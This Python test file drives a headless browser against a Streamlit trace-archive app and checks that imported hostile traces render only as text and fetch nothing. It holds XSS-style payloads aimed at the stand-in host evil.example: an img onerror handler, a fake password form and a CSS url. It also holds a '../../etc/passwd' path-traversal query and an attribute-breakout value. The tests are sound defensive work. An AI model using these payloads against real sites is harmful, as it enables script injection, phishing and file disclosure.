"""Hostile traces imported in a real browser: nothing they carry is drawn as markup, styled or fetched.

A trace file's strings (pair, scribe, prompt, text, every token's piece) reach the archive page, the
replayed sheet, its position tabs and charts, and "the whole text". Each carries HTML, Markdown and a
Streamlit directive aimed at an outside address; the page must show them as text and ask nothing of
that address. A trace whose style field is markup must be refused at the door.
"""
from __future__ import annotations

import json

import pytest

from specdec_core.decoding.generate import speculative_generate
from specdec_core.services.archive import Archive
from specdec_core.settings import DecodeSettings
from tools.browser import CHROMIUM, EXCEPTION, VIEWPORT, app_server, chromium, open_page, wait_ready

pytestmark = [
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium at /usr/bin/chromium (.ci/run installs it)"),
    pytest.mark.timeout(300),
]
pytest.importorskip("playwright", reason="playwright is in requirements.txt; run `make test` to install it")

BAIT = "http://evil.example"  # any request to it, or any element naming it, is an injection that worked
MARKUP = [
    f'<img src="{BAIT}/img.png" onerror="document.title=\'pwned\'">',
    f"![bait]({BAIT}/md.png)",
    f'<form action="{BAIT}/login"><input type="password" name="pw"><button>log in</button></form>',
    f"<style>body {{ background: url({BAIT}/bg.png) }}</style>",
    f":red[**loud**] [click]({BAIT}/link) $\\href{{{BAIT}}}{{x}}$",
]


def hostile_trace(tiny, tiny_prompt) -> dict:
    trace = speculative_generate(tiny.as_target(), tiny.draft(), tiny_prompt, DecodeSettings(k=3, seed=31, max_new_tokens=12))
    data = json.loads(trace.to_json())
    # names are at most 64 characters (trace_checks): markup that fits one
    data.update(pair=MARKUP[1], scribe=f'<img src="{BAIT}/s.png" onerror="x()">', prompt_text=" ".join(MARKUP),
                text=" ".join(reversed(MARKUP)))
    data["extra"]["prompt_pieces"] = MARKUP
    for i, r in enumerate(data["rounds"]):
        r["next_piece"] = MARKUP[i % len(MARKUP)]
        for j, step in enumerate(r["drafted"]):
            step["piece"] = MARKUP[(i + j) % len(MARKUP)]
            for candidate in step["candidates"]:
                candidate["piece"] = MARKUP[(i + j + 1) % len(MARKUP)]
    return data


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    with app_server(archive=folder / "archive.sqlite", log=folder / "streamlit.log") as url:
        yield url, Archive(folder / "archive.sqlite")


def server_log(server) -> str:
    _, store = server
    return (store.path.parent / "streamlit.log").read_text()


@pytest.fixture
def tab(server):
    with chromium() as browser:
        context = browser.new_context(viewport=VIEWPORT)
        page = context.new_page()
        page.requests = []
        page.on("request", lambda request: page.requests.append(request.url))
        yield page
        assert page.locator(EXCEPTION).count() == 0, page.locator(EXCEPTION).first.inner_text()
        context.close()


def test_an_imported_hostile_trace_is_shown_as_text_and_fetches_nothing(tab, server, tiny, tiny_prompt, tmp_path):
    base, store = server
    upload = tmp_path / "hostile.json"
    upload.write_text(json.dumps(hostile_trace(tiny, tiny_prompt), ensure_ascii=False))
    open_page(tab, base, "archive", expect="The archive", pair="tiny", language="en")
    tab.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(upload))
    wait_ready(tab, "Imported as run")  # not "Imported": the page's help says that word before any import
    assert "evil.example/md.png" in tab.locator("body").inner_text()  # the Markdown shows as the text it is
    run_id = store.list()[0].id
    _assert_nothing_injected(tab, base)

    open_page(tab, base, "scriptorium", expect="Characters written", pair="tiny", language="en", run=str(run_id))
    tab.get_by_text("The whole text").click()
    for _ in range(3):
        tab.get_by_role("button", name="Step ▶").click()
        wait_ready(tab, "Characters written")
    tab.get_by_role("button", name="To the end ⏭").click()
    wait_ready(tab, "Characters written")
    _assert_nothing_injected(tab, base)


def test_a_trace_whose_style_field_is_markup_is_refused_at_import(tab, server, tiny, tiny_prompt, tmp_path):
    base, store = server
    data = hostile_trace(tiny, tiny_prompt)
    data["rounds"][0]["next_kind"] = 'bonus"><form><input type=password></form><b class="x'
    upload = tmp_path / "next_kind.json"
    upload.write_text(json.dumps(data, ensure_ascii=False))
    before = store.count()
    open_page(tab, base, "archive", expect="The archive", pair="tiny", language="en")
    tab.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(upload))
    wait_ready(tab, "next_kind")
    assert store.count() == before
    _assert_nothing_injected(tab, base)


def _assert_nothing_injected(tab, base: str) -> None:
    outside = [url for url in tab.requests if not url.startswith((base, "data:", "blob:"))]
    assert outside == [], outside
    assert tab.title() != "pwned"
    for selector in ("form", 'input[type="password"]', f'img[src^="{BAIT}"]', f'a[href^="{BAIT}"]', ".katex"):
        assert tab.locator(selector).count() == 0, f"{selector} was drawn"
    styles = " ".join(tab.locator("style").all_inner_texts())
    assert BAIT not in styles


HOSTILE_LINKS = [  # (page, query): each must get a plain word on the page and one line at most in the log
    ("scriptorium", {"temperature": "1e-40"}), ("race", {"temperature": "1e-40"}), ("proof", {"temperature": "1e-40"}),
    ("proof", {"samples": "7", "rule": "no-such-rule"}), ("scriptorium", {"k": "-3", "seed": "x" * 300}),
    ("scriptorium", {"run": "99999999999999999999999"}), ("iron_rule", {"pair": "../../etc/passwd"}),
]


def test_hostile_input_leaves_no_traceback_in_the_server_log(tab, server, tiny, tiny_prompt, tmp_path):
    # A visitor's bad input is the visitor's, not the server's fault: the page says so, the log keeps one
    # line at most. A traceback in the log is kept for the server's own faults.
    base, _ = server
    data = hostile_trace(tiny, tiny_prompt)
    data["rounds"][0]["drafted"][0]["p"] = float("nan")
    upload = tmp_path / "nan.json"
    upload.write_text(json.dumps(data, ensure_ascii=False))  # json writes NaN, as a hostile file would
    open_page(tab, base, "archive", expect="The archive", pair="tiny", language="en")
    tab.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(upload))
    wait_ready(tab, "nothing was imported")
    for page, query in HOSTILE_LINKS:
        open_page(tab, base, page, language="en", **query)
        assert tab.locator(EXCEPTION).count() == 0, (page, query)
    log = server_log(server)
    assert "Traceback" not in log, log[-3000:]
